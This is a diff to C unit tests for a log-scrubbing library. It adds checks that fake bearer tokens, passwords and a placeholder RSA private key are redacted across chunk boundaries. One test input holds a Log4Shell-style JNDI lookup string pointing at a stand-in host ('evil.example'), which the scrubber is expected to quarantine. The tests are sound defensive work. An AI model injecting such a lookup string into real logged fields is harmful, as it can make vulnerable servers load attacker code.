@@ -251,7 +251,10 @@ UT_TEST(stream_boundary_splits)
 {
     scrub_ruleset_t *rs = default_rules();
     const char *in = "a\nAuthorization: Bearer 0VrbBGI09QYNdaKy8isWydfh\r\nx password=S3cr3t!Pass"
-                     "\n${jndi:ldap://evil.example/a}\nend";
+                     "\n${jndi:ldap://evil.example/a}\nkey -----BEGIN RSA PRIVATE KEY-----\n"
+                     "MIIEowIBAAKCAQEA7bq8abcdefghijklmnopqrstuvwxyz0123456789ABCDEF\r\n"
+                     "QWERTYUIOPASDFGHJKLZXCVBNMqwertyuiopasdfghjklzxcvbnm0123456789+/\n"
+                     "-----END RSA PRIVATE KEY-----\nend";
     size_t n = strlen(in), chunk;
     capture_t ref;
     scrub_counts_t cref;
@@ -264,7 +267,9 @@ UT_TEST(stream_boundary_splits)
     UT_CHECK(ref.out.len > 0 && memmem(ref.out.data, ref.out.len, "0VrbBGI", 7) == NULL);
     UT_CHECK(memmem(ref.out.data, ref.out.len, "S3cr3t", 6) == NULL);
     UT_CHECK(ref.quar.len > 0 && memmem(ref.quar.data, ref.quar.len, "jndi", 4) != NULL);
-    UT_CHECK_INT(cref.records_in, 5);
+    UT_CHECK(memmem(ref.out.data, ref.out.len, "MIIEow", 6) == NULL);
+    UT_CHECK(memmem(ref.out.data, ref.out.len, "QWERTY", 6) == NULL);
+    UT_CHECK_INT(cref.records_in, 9);
     UT_CHECK_INT(cref.quarantined, 1);
     for (chunk = 1; chunk <= n; chunk++) {
         capture_t c;
@@ -391,7 +396,9 @@ UT_TEST(pool_matches_stream)
     fputs("limits:\n  max_record: 300\nrules:\n"
           "  - id: tok\n    regex: 'tok_([a-z0-9]{6,})'\n    keywords: [tok_]\n    secret_group: 1\n"
           "  - id: q\n    regex: 'QQQ'\n    keywords: [qqq]\n    action: quarantine\n"
-          "  - id: d\n    regex: 'DROPME'\n    keywords: [dropme]\n    action: drop\n",
+          "  - id: d\n    regex: 'DROPME'\n    keywords: [dropme]\n    action: drop\n"
+          "  - id: pk\n    regex: '(-----BEGIN RSA PRIVATE KEY-----)'\n    keywords: ['-----begin']\n"
+          "    secret_group: 1\n    action: tag\n",
           fp);
     fclose(fp);
     UT_CHECK(scrub_ruleset_load(path, NULL, &rs, err, sizeof(err)) == 0);
@@ -420,7 +427,15 @@ UT_TEST(pool_matches_stream)
             for (i = 0; i < len; i++) {
                 in[n + i] = (uint8_t)('a' + rand_r(&seed) % 26);
             }
-            if (r >= 2 && r < 10 && len > 20) {
+            if (r == 10) {
+                /* a multi-line private key: its body lines must be redacted wherever blocks split */
+                static const char pem[] = "x -----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq8"
+                                          "abcdefghijklmnop\nQWERTYUIOPasdfgh0123456789+/\n"
+                                          "-----END RSA PRIVATE KEY-----";
+                memcpy(in + n, pem, sizeof(pem) - 1);
+                len = sizeof(pem) - 1;
+            }
+            else if (r >= 2 && r < 10 && len > 20) {
                 memcpy(in + n + 3, r < 6 ? "tok_abc123" : r < 8 ? "QQQ" : "DROPME", r < 6 ? 10 : r < 8 ? 3 : 6);
             }
             n += len;
@@ -436,6 +451,7 @@ UT_TEST(pool_matches_stream)
         run_pool(rs, 1 + (unsigned)(round % 3), in, n, 1 + (size_t)(rand_r(&seed) % 200000), &b, &cb);
         UT_CHECK(a.out.len == b.out.len && memcmp(a.out.data, b.out.data, a.out.len) == 0);
         UT_CHECK(a.quar.len == b.quar.len && memcmp(a.quar.data, b.quar.data, a.quar.len) == 0);
+        UT_CHECK(memmem(b.out.data, b.out.len, "QWERTYUIOP", 10) == NULL);
         UT_CHECK_INT(cb.records_in, ca.records_in);
         UT_CHECK_INT(cb.quarantined, ca.quarantined);
         UT_CHECK_INT(cb.dropped, ca.dropped);
